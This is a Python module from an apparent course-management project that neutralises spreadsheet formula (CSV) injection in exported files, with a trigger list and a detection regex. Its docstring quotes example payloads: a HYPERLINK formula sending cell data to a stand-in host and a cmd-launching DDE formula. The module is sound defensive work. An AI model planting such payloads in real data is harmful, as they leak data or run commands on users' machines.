"""CSV that a spreadsheet opens as data: every CSV coursehub writes goes through here.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and one that starts
with a tab or carriage return too (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection). A student's name
such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would then run
on the teacher's machine. :func:`neutralise_cell` prefixes such a text cell
with a single quote (``'``), which the spreadsheet shows as text; the
full-width forms of those characters (U+FF1D, U+FF0B, U+FF0D, U+FF20),
which some spreadsheets also accept, and a leading line feed are treated
the same way.

A separator does not protect the rest of a cell: OWASP notes that an
attacker "could use [field separators and quotes] to start a new cell and
then have the dangerous character in the middle of the user input, but at
the beginning of a cell". The quotes written around each cell stop a
spreadsheet that reads the file as CSV with the right separator, but not
one that splits it on another (Excel in a French locale splits on ``;`` and
keeps quotes only at the start of a cell), so ``Roy;=cmd|' /C calc'!A0;``
would still run there. A trigger that follows a separator (``,``, ``;``,
tab), a line break or a quote, after any spaces, gets the same ``'``, and so
does a cell whose first character after leading spaces is a trigger.

Only text cells are neutralised: an ``int`` or ``float`` (a score, even a
negative one) stays a number. A *text* cell that merely looks like a
negative number (``"-1"``) is text and gets the quote.

Every text cell is quoted (:data:`csv.QUOTE_NONNUMERIC`) and quotes inside it
are doubled, so a comma, a semicolon (the separator of French-locale
spreadsheets), a quote or a line break inside a name never shifts the
columns; numbers are written bare, so they stay numbers.

Public API: :func:`neutralise_cell`, :func:`write_csv_rows`, :func:`render_csv`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import IO

#: First characters that make a spreadsheet evaluate a cell (OWASP's list, plus
#: line feed and the full-width forms of = + - @).
FORMULA_TRIGGERS: tuple[str, ...] = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
)

#: A trigger after what ends a cell in some spreadsheet's reading (a separator, a
#: line break, a double quote) and any spaces or double quotes, or after leading
#: spaces: group 1 is kept, ``'`` goes after it.
_INNER_TRIGGER = re.compile(
    '([,;\t\r\n"][\\s"]*|^\\s+)(?=[' + re.escape("".join(FORMULA_TRIGGERS)) + "])"
)

#: A cell: text, a number, or None (an empty cell).
Cell = str | int | float | None


def neutralise_cell(value: Cell) -> Cell:
    """Return ``value`` as a spreadsheet will read it as data (pure).

    Text starting with one of :data:`FORMULA_TRIGGERS` (after leading
    spaces) gets a leading ``'``, and so does each trigger that follows a
    separator, a line break or a quote inside it (``"Roy;=1+1"`` ->
    ``"Roy;'=1+1"``); other text, numbers (``bool`` excepted: written as
    text) and ``None`` are returned unchanged.
    """
    if isinstance(value, bool):
        value = str(value)
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_TRIGGERS):
        value = "'" + value
    return _INNER_TRIGGER.sub(r"\1'", value)


def write_csv_rows(handle: IO[str], rows: Iterable[Sequence[Cell]]) -> None:
    """Write ``rows`` (the header is a row too) to ``handle`` as safe, quoted CSV.

    ``handle`` is a text file opened with ``newline=""`` (the csv module's
    rule); lines end in CRLF as RFC 4180 says. ``None`` becomes an empty
    cell.
    """
    writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if cell is None else neutralise_cell(cell) for cell in row])


def render_csv(rows: Iterable[Sequence[Cell]]) -> str:
    """Return ``rows`` as the text :func:`write_csv_rows` writes (pure)."""
    buffer = io.StringIO(newline="")
    write_csv_rows(buffer, rows)
    return buffer.getvalue()
